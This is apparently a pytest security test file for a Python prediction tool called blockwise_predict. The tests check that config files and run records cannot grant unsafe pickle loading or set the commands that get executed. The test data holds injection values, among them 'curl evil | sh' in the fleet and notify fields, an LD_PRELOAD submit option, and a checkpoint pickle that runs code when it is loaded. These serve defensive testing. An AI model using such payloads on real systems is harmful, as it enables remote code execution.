"""What is executed is allowed on this command line, by this user, and by no file."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
import torch
import yaml

from blockwise_predict.config.model import load_config
from blockwise_predict.errors import ConfigError
from blockwise_predict.fleet import job_settings
from blockwise_predict.fleet.commands import filled_in
from blockwise_predict.records import RunDir
from tests.support.jobs import Job
from tests.support.pickles import MakesFolder
from tests.support.runs import predict, read_output
from tests.support.shared import ROOT

ONE_BLOCK = ("--roi", "[:160,:160,:160]")
NEEDED = {"checkpoint": "c", "input": "i.zarr/raw", "output": "o.zarr/out"}


@pytest.fixture
def mark(job: Job) -> Path:
    """What the job's checkpoint makes when it is executed."""
    mark = job.folder / "executed"
    weights = job.folder / "weights.pt"
    torch.save({"model": torch.load(weights), "optimizer": MakesFolder(mark)}, weights)
    return mark


def test_a_record_does_not_let_a_checkpoint_run_code(job: Job, mark: Path) -> None:
    run = job.arguments("a", *ONE_BLOCK)
    assert "--unsafe-load-pickle" in predict(*run, code=2)
    # The run's own workers have the consent of its command line.
    predict(*run, "--unsafe-load-pickle")
    mark.rmdir()
    run_dir = job.run_dir("a")
    for file in (p for p in job.folder.rglob("*.json") if p.is_file()):
        assert "unsafe_load_pickle" not in file.read_text()
    assert "unsafe_load_pickle:" not in (run_dir / "config.yaml").read_text()
    # Not even if somebody writes it into one.
    plan = json.loads((run_dir / "plan.json").read_text())
    plan["config"]["unsafe_load_pickle"] = plan["config"]["trust_run_dir"] = True
    plan["config"]["notify"] = f"touch {mark}"
    (run_dir / "plan.json").write_text(json.dumps(plan))
    recorded = RunDir(run_dir).plan().config
    assert (recorded.unsafe_load_pickle, recorded.notify) == (False, None)
    output = job.output("a")
    verify = ("verify", output, "--sample", "1")
    for command, code in ((verify, 1), (("retry", output), 2), (run, 2)):
        assert "--unsafe-load-pickle" in predict(*command, code=code)
        assert not mark.exists()
    predict(*verify, "--unsafe-load-pickle")
    assert mark.exists()


@pytest.mark.slow
def test_a_worker_added_by_hand_asks_for_consent_of_its_own(job: Job, mark: Path) -> None:
    from tests.support.runs import command, until

    run = subprocess.Popen(
        command(*job.arguments("w", *ONE_BLOCK, "--workers", "0", "--unsafe-load-pickle")),
        stderr=subprocess.PIPE,
        text=True,
    )
    run_dir = job.run_dir("w")
    until(lambda: (run_dir / "server.json").exists())
    mark.rmdir()
    assert "--unsafe-load-pickle" in predict("worker", run_dir, code=2)
    assert not mark.exists()
    predict("worker", run_dir, "--unsafe-load-pickle")
    _, said = run.communicate(timeout=60)
    assert run.returncode == 0
    assert f"predict worker {run_dir} --unsafe-load-pickle" in said


def test_a_recorded_command_is_not_run_again_by_retry(job: Job) -> None:
    mark = job.folder / "executed"
    fleet = f"sh -c 'touch {mark}; exec {{worker}}'"
    predict(*job.arguments("f", *ONE_BLOCK, "--fleet", fleet))
    mark.unlink()
    records = RunDir(job.run_dir("f"))
    plan = records.plan()
    from contextlib import closing

    from blockwise_predict.records.ledger import State

    with closing(records.ledger(plan)) as ledger:
        ledger.set(0, State.FAILED)
    output = predict("retry", job.output("f"), code=2)
    assert "not taken from its records: --fleet='sh -c " in output
    assert not mark.exists()
    predict("retry", job.output("f"), "--fleet", "local")
    assert not mark.exists()
    with closing(records.ledger(plan)) as ledger:
        assert ledger.states.tolist() == [State.DONE]
        ledger.set(0, State.FAILED)
    predict("retry", job.output("f"), "--fleet", fleet)
    assert mark.exists()
    assert read_output(job.output("f")).any()


@pytest.mark.parametrize(
    ("key", "value", "option"),
    [
        ("unsafe_load_pickle", True, "give --unsafe-load-pickle on the command line"),
        ("trust_run_dir", True, "give --trust-run-dir on the command line"),
        ("fleet", "sh -c 'curl evil | sh'", "give --fleet='sh -c '"),
        ("fleet", "./my.sbatch", "give --fleet=./my.sbatch on the command line"),
        ("notify", "curl evil | sh", "give --notify='curl evil | sh' on the command line"),
        ("submit_options", "--export=ALL,LD_PRELOAD=x", "give --submit-options=--export"),
    ],
)
def test_a_yaml_file_does_not_decide_what_is_executed(
    key: str, value: object, option: str, tmp_path: Path
) -> None:
    file = tmp_path / "run.yaml"
    more = {"fleet": "slurm"} if key == "submit_options" else {}
    file.write_text(yaml.safe_dump({**NEEDED, **more, key: value}))
    with pytest.raises(ConfigError) as caught:
        load_config({}, file)
    assert str(caught.value).startswith(f"{file}: {key}")
    assert option in str(caught.value)
    # On the command line it may stand, also beside the file.
    assert load_config({key: value}, file).model_dump()[key] if key == "fleet" else True
    load_config({key: value}, file)


def test_a_yaml_file_may_name_a_fleet_that_is_shipped(tmp_path: Path) -> None:
    file = tmp_path / "run.yaml"
    given = {**NEEDED, "fleet": "slurm", "queue": "gpu", "unsafe_load_pickle": False}
    file.write_text(yaml.safe_dump(given))
    assert load_config({}, file).fleet == "slurm"


def test_consent_goes_to_workers_as_options(tmp_path: Path) -> None:
    config = load_config({**NEEDED, "unsafe_load_pickle": True, "trust_run_dir": True})
    assert config.consent_options == ["--unsafe-load-pickle", "--trust-run-dir"]
    words = filled_in("ssh gpu{number}", RunDir(tmp_path), 0, config.consent_options)
    assert words[-2:] == config.consent_options
    # Jobs that wait in a queue with another consent are not taken over.
    with_it, without = (
        job_settings(load_config({**NEEDED, "fleet": "slurm", "unsafe_load_pickle": unsafe}))
        for unsafe in (True, False)
    )
    assert with_it != without


@pytest.mark.parametrize("script", ["slurm.sbatch", "lsf.bsub"])
@pytest.mark.parametrize(
    "consent",
    [[], ["--unsafe-load-pickle", "--factory=/my $HOME/net's *.py:build", "--trust-run-dir"]],
)
def test_job_scripts_pass_consent_on(script: str, consent: list[str], tmp_path: Path) -> None:
    python = tmp_path / "python"
    python.write_text("#!/bin/sh\nprintf '%s\\n' \"$@\"\n")
    python.chmod(0o755)
    environment = {
        **{"PREDICT_PYTHON": str(python), "PREDICT_RUN_DIR": "/my run"},
        **{"PREDICT_CONSENT": shlex.join(consent)},
        **{"PREDICT_LOGS": str(tmp_path), "SLURM_CPUS_PER_TASK": "4", "LSB_DJOB_NUMPROC": "4"},
        **{"LSB_JOBID": "1", "LSB_JOBINDEX": "1", "PATH": os.environ["PATH"]},
    }
    done = subprocess.run(
        ["bash", ROOT / "workers" / script],
        env=environment,
        capture_output=True,
        text=True,
        check=True,
    )
    said = done.stdout + "".join(log.read_text() for log in tmp_path.glob("*.log"))
    words = ["-m", "blockwise_predict", "worker", *consent, "/my run", "--threads", "4"]
    assert said.splitlines() == words


def test_the_tests_that_docs_security_names_are_there() -> None:
    named = re.findall(r"`tests/([\w/]+\.py)::(\w+)`", (ROOT / "docs" / "security.md").read_text())
    assert len(named) > 20
    for file, test in named:
        assert f"def {test}(" in (ROOT / "tests" / file).read_text(), f"{file}::{test}"
